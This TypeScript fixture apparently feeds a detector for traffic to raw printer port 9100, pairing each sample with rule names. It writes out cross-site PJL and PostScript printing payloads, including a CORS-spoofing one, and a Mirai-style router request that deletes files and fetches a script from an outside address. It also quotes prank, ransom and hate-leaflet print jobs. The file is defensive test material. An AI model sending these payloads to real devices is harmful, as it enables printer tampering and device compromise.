/** What comes to the raw port in search of something else, and what is printed there by those who mean to be seen. */
import { type Attack, HOST, request, UEL, web } from "./attack.ts";

const ORIGIN = {
  Host: "192.0.2.10:9100",
  Origin: "http://www.example.com",
  "Content-Type": "text/plain;charset=UTF-8",
};
const posted = (body: string) => request("POST / HTTP/1.1", { ...ORIGIN, "Content-Length": String(body.length) }, body);

export const STRAYS: Attack[] = [
  {
    what: "cross-site printing of PJL",
    source: "Weaver 2007; Müller et al. 2017",
    sent: posted(`${UEL}@PJL RDYMSG DISPLAY="boo"\r\n${UEL}`),
    rules: ["browser-request-on-raw-port", "commands-from-a-browser"],
    intent: "exploit",
  },
  {
    what: "cross-site questions in PJL",
    source: "Müller et al. 2017",
    sent: posted(`${UEL}@PJL INFO ID\r\n${UEL}`),
    rules: ["browser-request-on-raw-port", "commands-from-a-browser", "pjl-info-id"],
    intent: "exploit",
  },
  {
    what: "cross-site printing of PostScript, with an answer the browser takes for a page",
    source: "Müller, CORS spoofing 2017",
    sent: posted("%!\n(HTTP/1.0 200 OK\\n) print (Access-Control-Allow-Origin: *\\n\\n) print product print flush\n"),
    rules: ["cross-site-printing", "browser-request-on-raw-port"],
    intent: "exploit",
  },
  {
    what: "cross-site printing of a form",
    source: "Weaver 2007",
    sent: request(
      "POST / HTTP/1.1",
      {
        Host: "192.0.2.10:9100",
        Referer: "http://www.example.com/",
        "Content-Type": "multipart/form-data; boundary=x",
      },
      '--x\r\nContent-Disposition: form-data; name="a"\r\n\r\nBUY CHEAP TONER NOW, SPECIAL OFFER, call now\r\n--x--\r\n',
    ),
    rules: ["browser-request-on-raw-port"],
    intent: "exploit",
  },
  {
    what: "a request for metrics",
    source: "Prometheus",
    sent: request("GET /metrics HTTP/1.1", { Host: "192.0.2.10:9100", "User-Agent": "Prometheus/2.45.0" }),
    rules: ["metrics-on-raw-port"],
    intent: "not-printer",
  },
  {
    what: "a request for a page",
    source: "seen on 9100 by everybody",
    sent: "GET / HTTP/1.1\r\nHost: 192.0.2.10:9100\r\nUser-Agent: Go-http-client/1.1\r\n\r\n",
    rules: ["http-on-raw-port"],
    intent: "not-printer",
  },
  ...(
    [
      ["SOCKS5", "RFC 1928", "\x05\x01\x00", "proxy-on-raw-port"],
      [
        "CONNECT",
        "RFC 9110",
        "CONNECT www.example.com:443 HTTP/1.1\r\nHost: www.example.com:443\r\n\r\n",
        "proxy-on-raw-port",
      ],
      [
        "another host's page",
        "Tufts and MSU, June 2012",
        "GET http://www.example.com/ HTTP/1.1\r\nHost: www.example.com\r\nAccept: */*\r\nPragma: no-cache\r\nUser-Agent:\r\n\r\n",
        "proxy-on-raw-port",
      ],
      ["TLS", "RFC 8446", "\x16\x03\x01\x00\x05\x01\x00\x00\x01\x03", "tls-on-raw-port"],
      ["CORBA", "seen by others on 9100", "GIOP\x01\x00\x01\x00$\x00\x00\x00", "other-protocol-on-raw-port"],
      ["SSH", "RFC 4253", "SSH-2.0-Go\r\n", "other-protocol-on-raw-port"],
    ] as const
  ).map(([what, source, sent, rule]): Attack => ({ what, source, sent, rules: [rule], intent: "not-printer" })),
  {
    what: "a proxy looked for on the web server",
    source: "hunters of open proxies",
    sent: web(request("GET http://www.example.com/ HTTP/1.1", { Host: "www.example.com" })),
    rules: ["web-proxy-request"],
    intent: "not-printer",
  },
  {
    what: "another product's page",
    source: "bots for routers",
    sent: web(request("GET /boaform/admin/formLogin HTTP/1.1", HOST)),
    rules: ["web-other-product"],
    intent: "not-printer",
  },
  {
    what: "a shell command for a router",
    source: "Mirai and its kin",
    sent: web(request("GET /setup.cgi?cmd=rm+-rf+/tmp/*;wget+http://198.51.100.7/x.sh HTTP/1.1", HOST)),
    rules: ["shell-command-in-request"],
    intent: "not-printer",
  },
];

const page = (what: string, source: string, sent: string, rules: string[]): Attack => ({
  what,
  source,
  sent,
  rules,
  intent: "spam",
});

/** Public wording of the waves, as far as it is known. */
export const PAGES: Attack[] = [
  page(
    "antiwork receipts",
    "vice.com and GreyNoise, December 2021",
    "\x1b@ARE YOU BEING UNDERPAID?\n\nYou have a protected LEGAL RIGHT to discuss your pay with your coworkers.\nPOVERTY WAGES only exist because people are 'willing' to work for them.\nreddit.com/r/antiwork\n\x1dV\x41\x00",
    ["job-propaganda"],
  ),
  page("antiwork, another sheet", "vice.com, December 2021", "TIME IS YOUR MOST VALUABLE ASSET\n\n25 or walk\n\f", [
    "job-propaganda",
  ]),
  page(
    "stackoverflowin",
    "February 2017",
    "stackoverflowin the hacker god has returned, your printer is part of a flaming botnet, operating on putin's forehead\nFor the love of God, please close this port, skid.\n\f",
    ["job-prank"],
  ),
  {
    ...page(
      "PewDiePie sheets, sent with PRET",
      "November 2018",
      `${UEL}@PJL USTATUSOFF\r\n${UEL}${UEL}@PJL RDYMSG DISPLAY="HACKED"\r\n${UEL}${UEL}%!\n/Courier findfont 12 scalefont setfont 72 700 moveto (PewDiePie is in trouble: unsubscribe from T-Series, subscribe to PewDiePie) show showpage\n${UEL}`,
      ["job-prank", "ready-message-changed"],
    ),
    intent: "tampering",
  },
  page(
    "leaflets of hate",
    "March 2016, without its wording",
    "%!PS\n/Times-Roman findfont 20 scalefont setfont 72 700 moveto (WHITE POWER) show 72 600 moveto (spread the word) show showpage\n",
    ["job-propaganda"],
  ),
  page(
    "a warning to owners",
    "Cybernews, August 2020, without its wording",
    "This printer has been hacked.\r\nClose port 9100, set a password and update your firmware.\r\n\f",
    ["job-prank"],
  ),
  page(
    "a ransom sheet",
    "LockBit and Egregor, by their public wording",
    "LockBit Black\r\nYour data are stolen and encrypted\r\nThe data will be published on TOR website if you do not pay the ransom\r\nhttp://example.onion\r\n\f",
    ["job-extorts"],
  ),
  page(
    "an advertisement under a driver's lines",
    "made up",
    `${UEL}@PJL SET RESOLUTION=600\r\n@PJL SET USERNAME="anna"\r\n@PJL ENTER LANGUAGE=PCL\r\n\x1bEBUY CHEAP TONER NOW!!! 70 % OFF, www.toner.example\r\n\f\x1bE${UEL}`,
    ["job-advertises-under-driver"],
  ),
  {
    what: "one page to device after device",
    source: "GreyNoise of the antiwork wave: sprayed at all of IPv4",
    sent: ["d1", "d2"].map((to, i) => ({
      to,
      after: `${i} min`,
      send: "The end is near, more on page two of this text.\n\f",
    })),
    rules: ["several-devices-printed"],
    intent: "spam",
  },
  {
    what: "an advertisement in UTF-16",
    source: "made up",
    sent: Buffer.from("\ufeffSPECIAL OFFER! Buy now: cheap toner, free shipping\r\n", "utf16le").toString("latin1"),
    rules: ["job-advertises"],
    intent: "spam",
  },
  {
    what: "a program file printed by a worm",
    source: "Bugbear.A 2002, W32.Printlove 2012, Milicenso 2012 (SANS ISC)",
    sent: `MZ\x90\x00\x03${"\x00".repeat(59)}\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21This program cannot be run in DOS mode.\r\r\n$`,
    rules: ["program-file-printed"],
    intent: "exploit",
  },
  {
    what: "a probe for office software's sake: HPLIP's status, once",
    source: "HPLIP base/status.py",
    sent: `${UEL}@PJL INFO STATUS \r\n${UEL}`,
    rules: ["hplip-status-query"],
    intent: "misconfigured",
  },
];
